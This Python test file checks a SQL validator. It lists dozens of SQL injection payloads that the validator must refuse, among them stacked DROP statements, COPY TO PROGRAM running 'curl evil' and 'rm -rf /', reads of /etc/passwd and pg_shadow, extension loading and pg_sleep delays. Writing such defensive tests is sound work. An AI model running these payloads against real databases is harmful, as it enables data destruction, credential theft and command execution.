"""The validator's catalogues: every attack refused before execution, every legitimate read accepted."""

from __future__ import annotations

import pytest
from ragkit_sql.validator import SQLValidationError, SQLValidator

TABLES = {"customers": None, "products": None, "orders": None, "order_items": None, "users": None}
DENY = ["users.password_hash"]


def validator(dialect: str, **options: object) -> SQLValidator:
    return SQLValidator(dialect=dialect, tables=TABLES, deny_columns=DENY, max_rows=50, **options)  # type: ignore[arg-type]


# (dialect, sql, the reason code the refusal names)
ATTACKS: list[tuple[str, str, str]] = [
    # stacked statements and statements hidden after comments
    ("sqlite", "SELECT * FROM customers; DROP TABLE customers", "stacked"),
    ("sqlite", "SELECT name FROM customers -- harmless\n; DELETE FROM orders", "stacked"),
    ("sqlite", "SELECT name FROM customers /* ; */ ; UPDATE products SET price = 0", "stacked"),
    ("sqlite", "SELECT 1; SELECT 2", "stacked"),
    ("postgres", "BEGIN; DROP TABLE customers; COMMIT", "stacked"),
    ("postgres", "SELECT 1; COPY customers TO PROGRAM 'curl evil'", "stacked"),
    # writes
    ("sqlite", "INSERT INTO customers (name) VALUES ('x')", "not_select"),
    ("sqlite", "INSERT OR REPLACE INTO products VALUES (1, 'x', 'y', 0)", "not_select"),
    ("sqlite", "REPLACE INTO products VALUES (1, 'x', 'y', 0)", "not_select"),
    ("sqlite", "UPDATE products SET price = 0", "not_select"),
    ("sqlite", "DELETE FROM orders", "not_select"),
    ("postgres", "INSERT INTO orders VALUES (9, 1, '2024-01-01', 'x') ON CONFLICT DO NOTHING", "not_select"),
    ("postgres", "INSERT INTO products VALUES (1,'a','b',1) ON CONFLICT (id) DO UPDATE SET price = 0", "not_select"),
    ("postgres", "MERGE INTO products p USING orders o ON p.id = o.id WHEN MATCHED THEN DELETE", "not_select"),
    ("postgres", "TRUNCATE orders", "not_select"),
    # DDL
    ("sqlite", "DROP TABLE customers", "not_select"),
    ("sqlite", "CREATE TABLE x AS SELECT * FROM customers", "not_select"),
    ("sqlite", "ALTER TABLE customers ADD COLUMN x TEXT", "not_select"),
    ("postgres", "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql", "not_select"),
    ("postgres", "GRANT ALL ON customers TO public", "not_select"),
    ("postgres", "DO $$ BEGIN DELETE FROM orders; END $$", "not_select"),
    ("postgres", "CALL cleanup()", "not_select"),
    # PRAGMA, ATTACH, DETACH, VACUUM, extensions
    ("sqlite", "PRAGMA writable_schema = 1", "not_select"),
    ("sqlite", "PRAGMA table_info(customers)", "not_select"),
    ("sqlite", "ATTACH DATABASE '/tmp/evil.db' AS evil", "not_select"),
    ("sqlite", "DETACH DATABASE evil", "not_select"),
    ("sqlite", "VACUUM INTO '/tmp/copy.db'", "not_select"),
    ("sqlite", "SELECT load_extension('/tmp/evil.so')", "function"),
    ("sqlite", "SELECT writefile('/tmp/x', name) FROM customers", "function"),
    ("sqlite", "SELECT readfile('/etc/passwd')", "function"),
    ("sqlite", "SELECT length(randomblob(1000000000))", "function"),
    ("sqlite", "SELECT zeroblob(2000000000)", "function"),
    ("sqlite", "SELECT * FROM pragma_table_info('users')", "table"),
    # writable CTEs and writes inside a SELECT
    ("postgres", "WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone", "write"),
    ("postgres", "WITH n AS (INSERT INTO products VALUES (9,'x','y',1) RETURNING id) SELECT id FROM n", "write"),
    ("postgres", "WITH u AS (UPDATE products SET price = 0 RETURNING id) SELECT count(*) FROM u", "write"),
    # COPY, SELECT INTO, locks, settings
    ("postgres", "COPY customers TO PROGRAM 'rm -rf /'", "not_select"),
    ("postgres", "COPY customers FROM '/etc/passwd'", "not_select"),
    ("postgres", "SELECT * INTO stolen FROM customers", "write"),
    ("postgres", "SELECT id FROM orders FOR UPDATE", "lock"),
    ("postgres", "SELECT id FROM orders FOR SHARE", "lock"),
    ("postgres", "SET statement_timeout = 0", "not_select"),
    ("postgres", "SELECT set_config('default_transaction_read_only', 'off', false)", "function"),
    ("postgres", "SELECT current_setting('data_directory')", "function"),
    ("postgres", "LOCK TABLE orders", "not_select"),
    ("postgres", "EXPLAIN ANALYZE DELETE FROM orders", "not_select"),
    # dangerous PostgreSQL functions
    ("postgres", "SELECT pg_sleep(60)", "function"),
    ("postgres", "SELECT pg_catalog.pg_sleep(60)", "function"),
    ("postgres", 'SELECT "pg_sleep"(60)', "function"),
    ("postgres", "SELECT name FROM customers WHERE pg_sleep(10) IS NULL", "function"),
    ("postgres", "SELECT pg_read_file('/etc/passwd')", "function"),
    ("postgres", "SELECT pg_ls_dir('.')", "function"),
    ("postgres", "SELECT lo_import('/etc/passwd')", "function"),
    ("postgres", "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)", "function"),
    ("postgres", "SELECT query_to_xml('delete from orders', true, true, '')", "function"),
    ("postgres", "SELECT nextval('orders_id_seq')", "function"),
    ("postgres", "SELECT pg_terminate_backend(1)", "function"),
    ("postgres", "SELECT repeat('x', 1000000000)", "function"),
    # tables outside the allowlist and system catalogs
    ("sqlite", "SELECT name FROM customers UNION SELECT sql FROM sqlite_master", "system_catalog"),
    ("sqlite", "SELECT name FROM sqlite_schema", "system_catalog"),
    ("sqlite", "SELECT * FROM main.sqlite_master", "system_catalog"),
    ("sqlite", "SELECT name FROM evil.customers", "table"),
    ("sqlite", "SELECT name FROM customers UNION SELECT secret FROM payroll", "table"),
    ("postgres", "SELECT usename, passwd FROM pg_catalog.pg_shadow", "system_catalog"),
    ("postgres", "SELECT table_name FROM information_schema.tables", "system_catalog"),
    ("postgres", "SELECT * FROM pg_user", "system_catalog"),
    ("postgres", "SELECT name FROM customers WHERE id IN (SELECT oid FROM pg_authid)", "system_catalog"),
    ("postgres", "SELECT name FROM other_schema.customers", "table"),
    # denied columns
    ("sqlite", "SELECT login, password_hash FROM users", "column"),
    ("sqlite", "SELECT u.password_hash FROM users AS u", "column"),
    ("sqlite", "SELECT * FROM users", "column"),
    ("sqlite", "SELECT name FROM customers UNION SELECT password_hash FROM users", "column"),
    ("postgres", "SELECT row_to_json(u) FROM users u", "column"),
    ("postgres", "SELECT to_jsonb(users) FROM users", "column"),
    ("postgres", "SELECT (u).password_hash FROM users u", "column"),
    # parameters, unparseable, empty
    ("sqlite", "SELECT name FROM customers WHERE id = ?", "parameter"),
    ("postgres", "SELECT name FROM customers WHERE id = %(id)s", "parameter"),
    # a CTE cannot launder a table or a column: inside its own body the name means the real table
    ("sqlite", "WITH payroll AS (SELECT * FROM payroll) SELECT * FROM payroll", "table"),
    ("sqlite", "WITH users AS (SELECT password_hash FROM users) SELECT * FROM users", "column"),
    ("postgres", "WITH a AS (SELECT * FROM b), b AS (SELECT 1 AS x) SELECT * FROM a", "table"),
    ("sqlite", "WITH x AS (SELECT sql FROM sqlite_master) SELECT * FROM x", "system_catalog"),
    ("sqlite", "SELECT name FROM customers WHERE", "unparseable"),
    ("sqlite", "SELEC name FROM customers", "unparseable"),
    ("sqlite", "-- only a comment", "empty"),
    ("sqlite", "", "empty"),
]

# (dialect, sql)
LEGITIMATE: list[tuple[str, str]] = [
    ("sqlite", "SELECT name, city FROM customers"),
    ("sqlite", "SELECT * FROM customers"),
    ("sqlite", "SELECT count(*) FROM orders"),
    ("sqlite", "SELECT c.name, o.placed FROM customers AS c JOIN orders AS o ON o.customer_id = c.id"),
    (
        "sqlite",
        "SELECT c.name, count(o.id) AS n FROM customers c LEFT JOIN orders o ON o.customer_id = c.id GROUP BY c.name",
    ),
    ("sqlite", "SELECT status, count(*) FROM orders GROUP BY status HAVING count(*) > 1 ORDER BY 2 DESC"),
    ("sqlite", "SELECT name FROM products WHERE price > (SELECT avg(price) FROM products)"),
    ("sqlite", "SELECT name FROM customers WHERE id IN (SELECT customer_id FROM orders WHERE status = 'shipped')"),
    ("sqlite", "SELECT name FROM customers c WHERE EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = c.id)"),
    (
        "sqlite",
        "WITH totals AS (SELECT order_id, sum(quantity) AS q FROM order_items GROUP BY order_id)"
        " SELECT max(q) FROM totals",
    ),
    ("sqlite", "SELECT name, price, rank() OVER (ORDER BY price DESC) AS r FROM products"),
    ("sqlite", "SELECT category, name, sum(price) OVER (PARTITION BY category) FROM products"),
    ("sqlite", "SELECT name, CASE WHEN price > 20 THEN 'expensive' ELSE 'cheap' END AS band FROM products"),
    ("sqlite", "SELECT name FROM customers WHERE name LIKE 'A%'"),
    ("sqlite", "SELECT strftime('%Y', placed) AS year, count(*) FROM orders GROUP BY year"),
    ("sqlite", "SELECT date(placed, '+7 days') FROM orders WHERE placed BETWEEN '2023-01-01' AND '2023-12-31'"),
    ("sqlite", "SELECT city FROM customers UNION SELECT name FROM products"),
    ("sqlite", "SELECT city FROM customers INTERSECT SELECT city FROM customers WHERE country = 'UK'"),
    ("sqlite", "SELECT DISTINCT country FROM customers ORDER BY country LIMIT 5"),
    ("sqlite", "SELECT login FROM users"),
    (
        "sqlite",
        "SELECT p.name, sum(oi.quantity * p.price) AS revenue FROM order_items oi JOIN products p"
        " ON p.id = oi.product_id GROUP BY p.name ORDER BY revenue DESC",
    ),
    ("sqlite", "SELECT coalesce(city, 'unknown'), upper(name), length(name), round(1.5) FROM customers"),
    ("sqlite", "SELECT typeof(price), sqlite_version() FROM products"),
    ("sqlite", "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n WHERE x < 5) SELECT x FROM n"),
    ("sqlite", "SELECT name FROM customers -- the names\n"),
    ("sqlite", "SELECT name FROM customers;"),
    ("postgres", "SELECT date_trunc('month', placed) AS month, count(*) FROM orders GROUP BY 1"),
    ("postgres", "SELECT extract(year FROM placed), status FROM orders"),
    ("postgres", "SELECT name, price::numeric(10, 2) FROM products WHERE name ILIKE '%pen%'"),
    (
        "postgres",
        "SELECT c.name, string_agg(o.status, ',') FROM customers c JOIN orders o ON o.customer_id = c.id"
        " GROUP BY c.name",
    ),
    ("postgres", "SELECT name, lag(price) OVER (ORDER BY price) FROM products"),
    ("postgres", "SELECT g FROM generate_series(1, 3) AS g"),
    ("postgres", "SELECT id FROM orders ORDER BY placed DESC FETCH FIRST 3 ROWS ONLY"),
    ("postgres", "SELECT pg_typeof(price) FROM products"),
    ("postgres", "SELECT now() - placed::timestamp AS age FROM orders"),
    ("postgres", "SELECT row_to_json(c) FROM customers c"),
    ("sqlite", "WITH a AS (SELECT id FROM orders), b AS (SELECT id FROM a) SELECT count(*) FROM b"),
    ("sqlite", "WITH o AS (SELECT customer_id FROM orders) SELECT name FROM customers WHERE id IN (SELECT * FROM o)"),
]


@pytest.mark.parametrize(
    ("dialect", "sql", "reason"), ATTACKS, ids=[f"{i:02d}-{a[1][:40]}" for i, a in enumerate(ATTACKS)]
)
def test_attack_is_refused_with_its_reason(dialect: str, sql: str, reason: str) -> None:
    with pytest.raises(SQLValidationError) as refused:
        validator(dialect).validate(sql)
    assert refused.value.reason == reason, str(refused.value)
    assert str(refused.value).startswith(f"refused ({reason}):")


@pytest.mark.parametrize(("dialect", "sql"), LEGITIMATE, ids=[f"{i:02d}-{q[1][:40]}" for i, q in enumerate(LEGITIMATE)])
def test_legitimate_read_is_accepted_with_a_limit(dialect: str, sql: str) -> None:
    checked = validator(dialect).validate(sql)
    assert "LIMIT" in checked.sql.upper() or "FETCH FIRST" in checked.sql.upper()


def test_catalogues_are_large_enough() -> None:
    assert len(ATTACKS) >= 40
    assert len(LEGITIMATE) >= 20


def test_limit_is_injected_or_lowered_never_raised() -> None:
    check = validator("sqlite")
    assert check.validate("SELECT name FROM customers").sql.endswith("LIMIT 50")
    assert check.validate("SELECT name FROM customers LIMIT 500").sql.endswith("LIMIT 50")
    assert check.validate("SELECT name FROM customers LIMIT 3").sql.endswith("LIMIT 3")
    assert check.validate("SELECT name FROM customers LIMIT 500 OFFSET 10").sql.endswith("LIMIT 50 OFFSET 10")
    union = check.validate("SELECT city FROM customers UNION SELECT name FROM products")
    assert union.sql.endswith("LIMIT 50")


def test_what_runs_is_regenerated_without_comments() -> None:
    """The SQL that runs is written back from the parse tree, comments dropped: nothing hides in them."""
    nested = validator("postgres").validate("SELECT name /* a /* b */ ; DROP TABLE t; */ FROM customers -- x")
    assert nested.sql == "SELECT name FROM customers LIMIT 50"


def test_allowlist_narrows_tables_and_columns() -> None:
    narrow = SQLValidator(dialect="sqlite", tables={"products": ["name", "price"]})
    assert narrow.validate("SELECT name, price FROM products WHERE price > 10").tables == ("products",)
    with pytest.raises(SQLValidationError, match="the table customers is not allowed"):
        narrow.validate("SELECT name FROM customers")
    with pytest.raises(SQLValidationError, match=r"products\.category is not allowed"):
        narrow.validate("SELECT p.category FROM products p")
    with pytest.raises(SQLValidationError, match="column category is not allowed"):
        narrow.validate("SELECT category FROM products")
    with pytest.raises(SQLValidationError, match="SELECT \\*"):
        narrow.validate("SELECT * FROM products")


def test_denied_table_wins_over_the_allowlist() -> None:
    check = SQLValidator(dialect="sqlite", tables=TABLES, deny_tables=["users"])
    with pytest.raises(SQLValidationError, match="the table users is not allowed"):
        check.validate("SELECT login FROM users")


def test_system_catalog_only_when_allowed_by_name() -> None:
    check = SQLValidator(dialect="sqlite", tables=TABLES, allow_system=["sqlite_master"])
    assert check.validate("SELECT name FROM sqlite_master WHERE type = 'table'").tables == ("sqlite_master",)


def test_refusal_message_names_the_offender() -> None:
    with pytest.raises(SQLValidationError, match="pg_sleep"):
        validator("postgres").validate("SELECT pg_sleep(1)")
    with pytest.raises(SQLValidationError, match="payroll.*allowed tables: customers"):
        validator("sqlite").validate("SELECT * FROM payroll")
